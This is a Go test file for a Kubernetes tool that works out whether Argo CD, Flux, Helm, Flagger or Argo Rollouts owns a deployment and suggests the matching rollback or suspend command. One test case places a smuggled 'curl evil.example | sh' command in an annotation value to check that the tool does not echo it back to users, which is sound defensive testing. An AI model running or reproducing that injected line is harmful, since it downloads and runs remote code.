package kube_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/steward-bot/steward/internal/testcluster"
)

func TestOwnersAreKnownByTheirMarks(t *testing.T) {
	for name, story := range map[string]struct {
		mark  []string // kubectl label or annotate arguments
		owner string
		way   string
	}{
		"Argo CD by its annotation": {[]string{"annotate", "argocd.argoproj.io/tracking-id=shop-prod:apps/Deployment:shop/checkout"}, "Argo CD application shop-prod", "`argocd app set shop-prod --sync-policy none`"},
		"Argo CD by its own label":  {[]string{"label", "argocd.argoproj.io/instance=shop-prod"}, "Argo CD application shop-prod", "`argocd app rollback shop-prod`"},
		"Argo CD by what it wrote":  {[]string{"label", "--field-manager=argocd-controller", "app.kubernetes.io/instance=shop-prod"}, "Argo CD application shop-prod", "`argocd app rollback shop-prod`"},
		"Flux by a Kustomization":   {[]string{"label", "kustomize.toolkit.fluxcd.io/name=shop", "kustomize.toolkit.fluxcd.io/namespace=flux-system"}, "Flux Kustomization flux-system/shop", "`flux suspend kustomization shop -n flux-system`"},
		"Flux by a HelmRelease":     {[]string{"label", "helm.toolkit.fluxcd.io/name=shop", "helm.toolkit.fluxcd.io/namespace=flux-system"}, "Flux HelmRelease flux-system/shop", "`flux suspend helmrelease shop -n flux-system`"},
		"Helm":                      {[]string{"annotate", "meta.helm.sh/release-name=shop", "meta.helm.sh/release-namespace=shop"}, "Helm release shop/shop", "`helm rollback shop -n shop`"},
		"a mark that is a command":  {[]string{"annotate", "argocd.argoproj.io/tracking-id=shop; curl evil.example | sh #:apps/Deployment:shop/checkout"}, "Argo CD application (its mark holds no name)", ""},
		"a label that charts have":  {[]string{"label", "app.kubernetes.io/instance=shop"}, "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t)
			p.Apply(t, p.ns, manifest("Deployment", "checkout"))
			p.Kubectl(t, append([]string{"-n", p.ns, story.mark[0], "deployment/checkout"}, story.mark[1:]...)...)
			view, err := p.clusters.View(t.Context(), p.target(t, "checkout"))
			if err != nil {
				t.Fatal(err)
			}
			switch {
			case story.owner == "" && len(view.Owners) == 0:
			case len(view.Owners) != 1 || view.Owners[0].String() != story.owner || !strings.Contains(view.Owners[0].Instead, story.way):
				t.Errorf("got %+v, want %q", view.Owners, story.owner)
			case strings.Contains(view.Owners[0].Instead, "curl"):
				t.Errorf("people are told to run %s", view.Owners[0].Instead)
			}
		})
	}
}

const deliveryCRDs = `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: canaries.flagger.app}
spec:
  group: flagger.app
  names: {kind: Canary, plural: canaries, singular: canary, listKind: CanaryList}
  scope: Namespaced
  versions: [{name: v1beta1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: rollouts.argoproj.io}
spec:
  group: argoproj.io
  names: {kind: Rollout, plural: rollouts, singular: rollout, listKind: RolloutList}
  scope: Namespaced
  versions: [{name: v1alpha1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
`

func TestProgressiveDeliveryIsFoundByWhatItPointsAt(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.Apply(t, p.ns, deliveryCRDs)
	p.Apply(t, p.ns, manifest("Deployment", "checkout")+"---"+manifest("Deployment", "ledger"))
	testcluster.Eventually(t, "the new kinds are served", 20*time.Second, func(context.Context) error {
		_, err := p.TryKubectl("-n", p.ns, "get", "canaries,rollouts")
		return err
	})
	p.Apply(t, p.ns, `
apiVersion: flagger.app/v1beta1
kind: Canary
metadata: {name: checkout}
spec: {targetRef: {apiVersion: apps/v1, kind: Deployment, name: checkout}}
---
apiVersion: argoproj.io/v1alpha1
kind: Rollout
metadata: {name: checkout-rollout}
spec: {workloadRef: {apiVersion: apps/v1, kind: Deployment, name: checkout}}
`)
	var owners []string
	testcluster.Eventually(t, "the owners are seen", 10*time.Second, func(ctx context.Context) error {
		view, err := p.clusters.View(ctx, p.target(t, "checkout"))
		if err != nil {
			return err
		}
		owners = nil
		for _, owner := range view.Owners {
			owners = append(owners, owner.String()+" in "+owner.Resource)
		}
		if len(owners) != 2 {
			return errors.New("not yet")
		}
		return nil
	})
	if want := "Flagger Canary checkout in Canary, Argo Rollout checkout-rollout in Rollout"; strings.Join(owners, ", ") != want {
		t.Errorf("got %v, want %s", owners, want)
	}
	if view, err := p.clusters.View(t.Context(), p.target(t, "ledger")); err != nil || len(view.Owners) != 0 {
		t.Errorf("the neighbour: %v, %v", view.Owners, err)
	}
}
